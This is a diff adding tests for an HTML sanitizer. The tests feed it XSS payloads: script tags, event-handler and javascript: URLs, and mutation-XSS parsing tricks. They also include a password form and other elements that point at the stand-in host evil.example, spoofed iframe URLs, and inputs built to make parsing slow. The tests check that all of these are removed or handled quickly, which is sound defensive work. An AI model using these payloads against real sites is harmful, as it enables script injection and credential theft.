@@ -63,3 +63,109 @@ describe('toPlainText', () => {
     expect(toPlainText('<h2>หัวข้อ</h2><p>หนึ่ง&amp;สอง</p><script>alert(1)</script>')).toBe('หัวข้อ\n\nหนึ่ง&สอง');
   });
 });
+
+describe('active elements (P-053)', () => {
+  const active = [
+    '<script>alert(1)</script>',
+    '<style>@import "//evil.example"</style>',
+    '<form action="//evil.example"><input type="password" name="p"><button>ส่ง</button></form>',
+    '<base href="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    '<object data="//evil.example/x"></object>',
+    '<embed src="//evil.example/x">',
+    '<link rel="stylesheet" href="//evil.example/x.css">',
+    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>ข</text></a><use href="//evil.example#x"/></svg>',
+    '<math href="javascript:alert(1)"><mtext>ข</mtext></math>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<dialog open onclose="alert(1)">ข</dialog>',
+    '<video src="//evil.example/v" onerror="alert(1)"><source src="//evil.example/v"></video>',
+    '<details open ontoggle="alert(1)"><summary>ข</summary></details>',
+  ];
+  test.each(active)('are removed and the text around them kept: %s', (html) => {
+    const clean = sanitizeHtml(`<p>ก</p>${html}<p>ค</p>`);
+    expect(clean).toMatch(/^<p>ก<\/p>.*<p>ค<\/p>$/);
+    expect(clean).not.toMatch(/evil|alert|<(?!\/?(?:p|a)>)|on\w+=/);
+  });
+});
+
+describe('frames (P-054)', () => {
+  test.each([
+    ['https://evil.example', ''],
+    ['https://youtube.com.evil.example/embed/dQw4w9WgXcQ', ''],
+    ['https://www.youtube-nocookie.com@evil.example/embed/dQw4w9WgXcQ', ''],
+    ['javascript:alert(1)//www.youtube.com/embed/dQw4w9WgXcQ', ''],
+    ['//www.youtube.com/embed/dQw4w9WgXcQ', ''],
+    ['https://www.facebook.com/plugins/video.php?href=https://evil.example/videos/1', ''],
+    ['https://youtu.be/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ'],
+  ])('of %s', (src, kept) => {
+    const frame = kept && `<iframe src="${kept}"></iframe>`;
+    expect(sanitizeHtml(`ก<iframe src="${src}" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>`)).toBe(
+      `ก${frame}`,
+    );
+  });
+});
+
+describe('what changes when it is parsed again', () => {
+  test.each([
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject><desc><script>alert(1)</script></desc></svg>',
+    '<select><template><img src=x onerror=alert(1)></template></select><xmp><img src=x onerror=alert(1)></xmp>',
+    '<textarea><img src=x onerror=alert(1)></textarea><title></title><img src=x onerror=alert(1)>',
+    '<form id=a><div></form><form id=b><input name=action></div></form>',
+    '<p><button><p>ก</button><table><caption>ข<td><a><table><a>ค',
+  ])('is harmless: %s', (html) => {
+    const clean = sanitizeHtml(html);
+    expect(clean).not.toMatch(/<(?!\/?(?:p|a|table|tbody|tr|td)>)/);
+    expect(sanitizeHtml(clean)).toBe(clean);
+  });
+
+  test('is nothing, for any order of tags', () => {
+    const names =
+      'p div h1 b i a table tbody tr td caption tfoot ul li figure figcaption blockquote svg math mtext style script select option button form textarea title template br nobr center object'.split(
+        ' ',
+      );
+    let seed = 7;
+    const pick = (count: number): number => {
+      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
+      return Math.floor(seed / 65_536) % count;
+    };
+    for (let round = 0; round < 1_000; round += 1) {
+      const tags = Array.from({ length: 12 }, () => `<${pick(3) === 0 ? '/' : ''}${names[pick(names.length)]}>ก`);
+      const clean = sanitizeHtml(tags.join(''));
+      expect(sanitizeHtml(clean)).toBe(clean);
+    }
+  });
+});
+
+describe('a text made to cost time', () => {
+  const KIB = 1_024;
+  const fill = (piece: string, bytes = 512 * KIB): string => piece.repeat(bytes / Buffer.byteLength(piece));
+  test.each([
+    ['10,000 nested boxes', '<div>'.repeat(10_000)],
+    ['boxes up to the limit of a text', fill('<div>')],
+    ['tables in tables', fill('<table><td>')],
+    ['foreign elements', fill('<svg><g>')],
+    ['unclosed styles, each another', Array.from({ length: 20_000 }, (_, index) => `<b x=${index}>`).join('')],
+    ['unclosed styles before many paragraphs', `${'<b><i x=1><u><s><em>'.repeat(6)}${fill('<p>')}`],
+    ['many pictures', fill('<img src=x>')],
+    ['many paragraphs', fill('<p>')],
+    ['links with tables', fill('<a><table>')],
+    ['many attributes', `<p ${Array.from({ length: 60_000 }, (_, index) => `a${index}`).join(' ')}>`],
+    ['open comments', fill('<!--')],
+    ['signs', fill('<&')],
+  ])('ends soon: %s', (_name, html) => {
+    const start = performance.now();
+    expect(sanitizeHtml(`<p>ก</p>${html}`)).toMatch(/^(?:<p>)?\s*ก/);
+    expect(performance.now() - start).toBeLessThan(10_000);
+  });
+
+  test('keeps its words, and elements as deep as people nest them', () => {
+    expect(sanitizeHtml(`${'<div>'.repeat(10_000)}ก &amp; ข`)).toBe(`${' '.repeat(10_000)}ก &#x26; ข`);
+    const deep = `${'<blockquote>'.repeat(100)}<p>ก</p>${'</blockquote>'.repeat(100)}`;
+    expect(sanitizeHtml(deep)).toBe(deep);
+  });
+});
